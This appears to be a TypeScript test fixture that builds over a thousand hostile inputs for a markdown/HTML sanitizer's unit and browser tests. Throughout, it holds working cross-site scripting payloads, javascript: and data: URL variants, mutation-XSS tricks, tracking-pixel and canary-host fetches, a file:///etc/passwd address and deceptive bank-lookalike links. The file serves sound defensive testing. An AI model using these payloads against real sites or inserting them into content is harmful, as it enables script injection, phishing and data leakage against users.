/**
 * Bodies that try to run code, fetch something or fool a reader. One list for the unit test (parsed
 * with a real HTML parser) and for the browser test (shown in Chromium, nothing may run).
 */

export type HostileInput = { name: string; source: string };

/** Called by a payload that runs; the browser test defines it and expects it never to be called. */
const RUN = 'window.__pwned(1)';
/** A host that must never be asked for anything. */
export const CANARY_HOST = 'canary.invalid';

const html = [
	`<script>${RUN}</script>`,
	`<ScRiPt>${RUN}</sCrIpT>`,
	`<script/x>${RUN}</script>`,
	`<scr<script>ipt>${RUN}</scr</script>ipt>`,
	`<script src=//${CANARY_HOST}/x.js></script>`,
	`<script src="data:text/javascript,${RUN}"></script>`,
	`<script type="module">import("https://${CANARY_HOST}/x.js")</script>`,
	`<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
	`<img src=x onerror=${RUN}>`,
	`<img src=x onerror="${RUN}" alt="plaatje">`,
	`<img/src=x/onerror=${RUN}>`,
	`<img src=x\tonerror\n=\n${RUN}>`,
	`<img src="https://${CANARY_HOST}/pixel.gif" alt="x">`,
	`<img srcset="https://${CANARY_HOST}/a 1x" alt="x">`,
	`<img src="javascript:${RUN}" alt="x">`,
	`<svg onload=${RUN}>`,
	`<svg><script>${RUN}</script></svg>`,
	`<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:${RUN}"><text y=20>klik</text></a></svg>`,
	`<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"></use></svg>`,
	`<svg><style><img src=x onerror=${RUN}></style></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
	`<math href="javascript:${RUN}">klik</math>`,
	`<iframe src="javascript:${RUN}"></iframe>`,
	`<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
	`<iframe src="https://${CANARY_HOST}/"></iframe>`,
	`<object data="javascript:${RUN}"></object>`,
	`<embed src="javascript:${RUN}">`,
	`<applet code="x.class"></applet>`,
	`<link rel=stylesheet href="https://${CANARY_HOST}/x.css">`,
	`<link rel=prefetch href="https://${CANARY_HOST}/x">`,
	`<base href="https://${CANARY_HOST}/">`,
	`<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
	`<style>@import "https://${CANARY_HOST}/x.css";</style>`,
	`<style>*{background:url(https://${CANARY_HOST}/x)}</style>`,
	`<p style="background:url(https://${CANARY_HOST}/x)">tekst</p>`,
	`<p style="position:fixed;inset:0;z-index:99">bedekt alles</p>`,
	`<div onmouseover=${RUN} style="width:100vw;height:100vh">x</div>`,
	`<a href="javascript:${RUN}">klik</a>`,
	`<a href="jav&#x09;ascript:${RUN}">klik</a>`,
	`<a href=" &#14; javascript:${RUN}">klik</a>`,
	`<a href="#" onclick="${RUN}" autofocus onfocus="${RUN}" tabindex=1>klik</a>`,
	`<a href="https://${CANARY_HOST}/" ping="https://${CANARY_HOST}/ping" target=_blank>klik</a>`,
	`<a class="mention" data-person="x" href="javascript:${RUN}">@Jan</a>`,
	`<form action="https://${CANARY_HOST}/"><input name=password autofocus onfocus=${RUN}><button>Inloggen</button></form>`,
	`<button formaction="javascript:${RUN}">x</button>`,
	`<isindex action="javascript:${RUN}" type=submit>`,
	`<input type=image src=x onerror=${RUN}>`,
	`<video src=x onerror=${RUN}></video>`,
	`<video poster="https://${CANARY_HOST}/p.png"></video>`,
	`<audio src=x onerror=${RUN} autoplay></audio>`,
	`<details open ontoggle=${RUN}>x</details>`,
	`<marquee onstart=${RUN}>x</marquee>`,
	`<body onload=${RUN}>`,
	`<select><option>a</option></select><keygen autofocus onfocus=${RUN}>`,
	`<textarea></textarea><img src=x onerror=${RUN}></textarea>`,
	`<title><img src=x onerror=${RUN}></title>`,
	`<template><script>${RUN}</script></template>`,
	`<xmp><img src=x onerror=${RUN}></xmp>`,
	`<plaintext><img src=x onerror=${RUN}>`,
	`<!--><img src=x onerror=${RUN}>-->`,
	`<![CDATA[<img src=x onerror=${RUN}>]]>`,
	`<?xml version="1.0"?><x onclick=${RUN}>x</x>`,
	`<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
	`<dialog open onclose=${RUN}>x</dialog>`,
	`<p id="__proto__" name="getElementById">clobber</p>`,
	`"><img src=x onerror=${RUN}>`,
	`'><svg/onload=${RUN}>`,
	`--><script>${RUN}</script><!--`,
	`&lt;script&gt;${RUN}&lt;/script&gt;`,
	`&#60;img src=x onerror=${RUN}&#62;`,
	`\\<script\\>${RUN}\\</script\\>`,
	`<\u0000script>${RUN}</script>`,
	`＜script＞${RUN}＜/script＞`
];

const addresses = [
	`javascript:${RUN}`,
	`JaVaScRiPt:${RUN}`,
	`javascript&colon;${RUN}`,
	`javascript&#58;${RUN}`,
	`java&#115;cript:${RUN}`,
	`java\\script:${RUN}`,
	`%6aavascript:${RUN}`,
	`\u0001javascript:${RUN}`,
	`java&#10;script:${RUN}`,
	`vbscript:msgbox(1)`,
	`data:text/html,<script>${RUN}</script>`,
	`data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZCgxKTwvc2NyaXB0Pg==`,
	`data:image/svg+xml,<svg onload=${RUN}>`,
	`blob:https://${CANARY_HOST}/1`,
	`filesystem:https://${CANARY_HOST}/1`,
	`file:///etc/passwd`,
	`ftp://${CANARY_HOST}/`,
	`view-source:javascript:${RUN}`,
	`feed:javascript:${RUN}`,
	`intent://x#Intent;scheme=javascript;end`,
	`ms-word:ofe|u|https://${CANARY_HOST}/x.docx`,
	`//${CANARY_HOST}/x`,
	`/\\${CANARY_HOST}/x`,
	`\\\\${CANARY_HOST}\\x`,
	`https:javascript:${RUN}`,
	`https://www.bank.nl@${CANARY_HOST}/`,
	`/bestanden/1" onerror="${RUN}`,
	`/bestanden/../api/x`,
	`/bestanden/1?x=javascript:${RUN}`,
	`mailto:a@b.nl?bcc=c@d.nl&body=x`
];

const wrappers: [string, (payload: string) => string][] = [
	['plain', (payload) => payload],
	['in a sentence', (payload) => `Hallo ${payload} daar`],
	['in a list', (payload) => `- een\n- ${payload}\n`],
	['in a quote', (payload) => `> ${payload}\n> en verder`],
	['in emphasis', (payload) => `**${payload}**`],
	['in a heading', (payload) => `## ${payload}`],
	['in a table', (payload) => `| a | b |\n|---|---|\n| ${payload} | x |`],
	['in code', (payload) => `\`${payload}\` en\n\n\`\`\`${payload}\n${payload}\n\`\`\``]
];

const addressWrappers: [string, (address: string) => string][] = [
	['link', (address) => `[klik](${address})`],
	['link in angle brackets', (address) => `[klik](<${address}>)`],
	['autolink', (address) => `<${address}>`],
	['bare', (address) => `kijk op ${address} eens`],
	['image', (address) => `![plaatje](${address})`],
	['image in a link', (address) => `[![plaatje](/bestanden/1)](${address})`],
	['reference', (address) => `[klik][a]\n\n[a]: ${address} "titel"`],
	['title', (address) => `[klik](https://voorbeeld.nl "${address}")`]
];

const byHand: string[] = [
	`[klik](javascript:${RUN} "titel")`,
	`[klik](https://voorbeeld.nl "\\" onmouseover=${RUN} \\"")`,
	`[klik](https://voorbeeld.nl/"onmouseover=${RUN})`,
	`[klik](https://voorbeeld.nl/'onmouseover=${RUN})`,
	`[klik](https://voorbeeld.nl/><script>${RUN}</script>)`,
	`![plaatje" onerror="${RUN}](/bestanden/1)`,
	`![plaatje](/bestanden/1 "x\\" onerror=${RUN}")`,
	`![](/bestanden/1)`,
	`![a](https://${CANARY_HOST}/track.gif)`,
	`![a](//${CANARY_HOST}/track.gif)`,
	`![a](/bestanden/1/../../uitloggen)`,
	`![a](/uitloggen)`,
	`@[<img src=x onerror=${RUN}>](person:11111111-2222-4333-8444-555555555555)`,
	`@[x" onclick="${RUN}](person:11111111-2222-4333-8444-555555555555)`,
	`@[x](person:javascript:${RUN})`,
	`@[x](person:11111111-2222-4333-8444-555555555555" onclick="${RUN})`,
	`[@[x](person:11111111-2222-4333-8444-555555555555)](https://${CANARY_HOST}/)`,
	`\`\`\`html"><script>${RUN}</script>\nx\n\`\`\``,
	`~~~ javascript:${RUN}" onclick="${RUN}\nx\n~~~`,
	`| a |\n|:-:" onclick=${RUN}|\n| b |`,
	`<https://voorbeeld.nl/"onmouseover="${RUN}>`,
	`https://voorbeeld.nl/"onmouseover="${RUN}`,
	`https://voorbeeld.nl/<script>${RUN}</script>`,
	`www.voorbeeld.nl/"><svg/onload=${RUN}>`,
	`a@b.nl"onmouseover="${RUN}`,
	`[https://www.bank.nl](https://${CANARY_HOST}/)`,
	`[www.bank.nl/\u202e](https://${CANARY_HOST}/)`,
	`[https://${CANARY_HOST}.bank.nl](https://${CANARY_HOST}/)`,
	`<a href="https://voorbeeld.nl">[klik](javascript:${RUN})</a>`,
	`[a](<javascript:${RUN}>) ![b](<javascript:${RUN}>)`,
	`[x]: javascript:${RUN}\n\n[x] [x][] [y][x]`,
	`[[klik](javascript:${RUN})](javascript:${RUN})`,
	`*<img src=x onerror=${RUN}>*_**<svg onload=${RUN}>**_`,
	`<!-- -->\n<script>\n${RUN}\n</script>\n`,
	`<div>\n\n<script>${RUN}</script>\n\n</div>`,
	`&#x3c;script&#x3e;${RUN}&#x3c;/script&#x3e;`,
	`&NewLine;&Tab;<img src=x onerror=${RUN}>`,
	`\\[klik\\](javascript:${RUN})`,
	`${'> '.repeat(60)}<img src=x onerror=${RUN}>`,
	`${'<b>'.repeat(300)}<img src=x onerror=${RUN}>`,
	`{@html "<img src=x onerror=${RUN}>"} {{constructor.constructor('${RUN}')()}} \${${RUN}}`,
	`/materiaal/1" data-card="x" onclick="${RUN}`,
	`[x](/materiaal/1"onclick="${RUN})`,
	`http://localhost:3000@${CANARY_HOST}/materiaal/1`,
	`http://localhost:3000.${CANARY_HOST}/materiaal/1`,
	`[x](http://localhost:3000\\@${CANARY_HOST}/)`
];

/** All of them, more than a thousand. */
export const hostileInputs: HostileInput[] = [
	...html.flatMap((payload, index) =>
		wrappers.map(([name, wrap]) => ({ name: `html ${index} ${name}`, source: wrap(payload) }))
	),
	...addresses.flatMap((address, index) =>
		addressWrappers.map(([name, wrap]) => ({
			name: `address ${index} ${name}`,
			source: wrap(address)
		}))
	),
	...byHand.map((source, index) => ({ name: `by hand ${index}`, source }))
];
